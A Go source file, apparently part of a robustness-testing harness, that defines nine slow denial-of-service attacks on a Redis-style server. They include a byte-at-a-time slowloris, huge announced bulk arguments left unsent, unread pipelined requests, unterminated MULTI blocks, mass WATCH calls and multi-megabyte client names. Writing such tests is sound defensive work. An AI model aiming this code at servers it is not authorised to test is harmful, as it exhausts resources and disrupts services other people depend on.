package main

import (
	"context"
	"fmt"
	"strings"
	"time"
)

func slowAttackers() []Attacker {
	return []Attacker{
		{Name: "trickle", About: "send a command a byte at a time (slowloris)", Family: Slow, Hands: 40, Attack: trickle},
		{Name: "promise", About: "announce 512 MiB and send as much of it as the server takes", Family: Slow, Hands: 24, Attack: promise},
		{Name: "starve", About: "announce 512 MiB and send next to nothing", Family: Slow, Hands: 60, Attack: starve},
		{Name: "arguments", About: "send a million empty arguments and hold the last one back", Family: Slow, Hands: 12, Attack: arguments},
		{Name: "deaf", About: "pipeline requests for large values and read no reply", Family: Slow, Hands: 40, Attack: deaf},
		{Name: "sip", About: "ask for a lot and read it a few bytes at a time", Family: Slow, Hands: 20, Attack: sip},
		{Name: "queue", About: "queue commands in a MULTI without an end", Family: Slow, Hands: 20, Attack: queue},
		{Name: "watch", About: "WATCH hundreds of thousands of keys", Family: Slow, Hands: 6, Attack: watch},
		{Name: "names", About: "set connection names of megabytes", Family: Slow, Hands: 8, Attack: names},
	}
}

func trickle(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	for _, b := range h.pipeline(h.Between(1, 3)) {
		if !c.Send([]byte{b}) || !h.Pause(ctx, 150*time.Millisecond) {
			return nil
		}
	}
	return nil
}

// hugeBulk is the largest argument that a server accepts by default.
const hugeBulk = "$536870912\r\n"

func promise(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	c.Send([]byte("*3\r\n$3\r\nSET\r\n$7\r\nevil:00\r\n" + hugeBulk))
	piece := make([]byte, 1<<h.Between(12, 18))
	for range 64 << 20 / len(piece) {
		if !c.Send(piece) {
			return nil
		}
		if h.Rand.IntN(16) == 0 && !h.Pause(ctx, 4*time.Millisecond) {
			return nil
		}
	}
	h.Pause(ctx, 2*time.Second)
	return nil
}

func starve(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	c.Send([]byte(OneOf(h, "*1\r\n", "*1048576\r\n", "*3\r\n$3\r\nSET\r\n$7\r\nevil:00\r\n") + hugeBulk))
	for range h.Between(1, 20) {
		if !c.Send(make([]byte, 1<<h.Rand.IntN(14))) || !h.Pause(ctx, 100*time.Millisecond) {
			return nil
		}
	}
	return nil
}

func arguments(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	c.Send([]byte("*1048576\r\n$4\r\nMGET\r\n"))
	empty := []byte(strings.Repeat("$0\r\n\r\n", 1<<14))
	for range 63 {
		if !c.Send(empty) {
			return nil
		}
	}
	h.Pause(ctx, time.Second)
	return nil
}

func deaf(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	var ask []byte
	switch h.Rand.IntN(5) {
	case 0:
		ask = Request("GET", KnownLarge)
	case 1:
		ask = Request(append([]string{"MGET"}, repeat(KnownLarge, h.Between(2, 500))...)...)
	case 2: // replies that have to wait for a commit
		ask = append(Request("SET", "evil:00", "v"), Request("GET", "evil:00")...)
	case 3:
		ask = Request("COMMAND")
	default:
		ask = Request("ECHO", strings.Repeat("e", h.Between(1, 1<<18)))
	}
	for range 1 + (4<<20)/len(ask) {
		// It stalls as soon as the server stops reading; the end of the attack,
		// or the server, ends it.
		if !c.SendWithin(time.Duration(h.Between(100, 3000))*time.Millisecond, ask) {
			break
		}
	}
	return nil
}

func sip(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.nc.SetReadBuffer(4 << 10)
	switch h.Rand.IntN(4) {
	case 0:
		c.Request(append([]string{"MGET"}, repeat(KnownLarge, h.Between(1, 200))...)...)
	case 1:
		c.Request("KEYS", "*")
	case 2:
		c.Request("COMMAND", "DOCS")
	default:
		c.Send([]byte(strings.Repeat(string(Request("GET", KnownLarge)), 100)))
	}
	b := make([]byte, 64)
	for range h.Between(1, 30) {
		n, err := c.nc.Read(b)
		h.tally.Received.Add(int64(n))
		if err != nil || !h.Pause(ctx, 100*time.Millisecond) {
			break
		}
	}
	return nil
}

func queue(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	var many []byte
	switch h.Rand.IntN(3) {
	case 0: // next to no bytes a command
		many = []byte(strings.Repeat("GET a\r\n", 1<<13))
	case 1: // next to no bytes an argument
		many = Request(append([]string{"MGET"}, make([]string, 1<<15)...)...)
	default:
		many = []byte(strings.Repeat(string(Request("GET", strings.Repeat("k", 1000))), 1<<8))
	}
	c.Request("MULTI")
	for range h.Between(1, 64) {
		if !c.Send(many) || !h.Pause(ctx, 5*time.Millisecond) {
			return nil
		}
	}
	if h.Rand.IntN(4) == 0 {
		c.Request("EXEC")
	}
	h.Pause(ctx, time.Second)
	return nil
}

func watch(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	for n := range h.Between(1, 40) {
		keys := make([]string, 1<<13)
		for i := range keys {
			keys[i] = fmt.Sprintf("%x", n<<13|i)
		}
		if !c.Request(append([]string{"WATCH"}, keys...)...) || !h.Pause(ctx, 10*time.Millisecond) {
			return nil
		}
	}
	h.Pause(ctx, time.Second)
	return nil
}

func names(ctx context.Context, h *Hand) error {
	c, ok := h.Login(ctx)
	if !ok {
		return nil
	}
	defer c.Close()
	c.Drain()
	name := strings.Repeat("n", h.Between(1, 4<<20))
	c.Request("CLIENT", "SETNAME", name)
	c.Request("CLIENT", "SETINFO", "LIB-NAME", name)
	c.Request("HELLO", "3", "SETNAME", name)
	c.Request("CLIENT", "INFO")
	h.Pause(ctx, time.Second)
	return nil
}

func repeat(s string, n int) []string {
	all := make([]string, n)
	for i := range all {
		all[i] = s
	}
	return all
}
